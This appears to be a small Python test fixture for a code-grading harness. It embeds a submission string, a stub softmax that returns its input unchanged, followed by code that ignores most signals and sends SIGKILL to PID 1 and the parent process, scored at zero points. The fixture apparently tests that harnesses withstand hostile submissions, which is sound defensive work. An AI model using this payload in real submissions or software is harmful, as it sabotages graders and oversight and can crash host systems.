"""Signals are ignored, and the processes around are killed."""

CELL = r"""
def softmax(x, dim=-1):
    return x
import os, signal
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
for target in (1, os.getppid()):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
"""
POINTS = 0.0
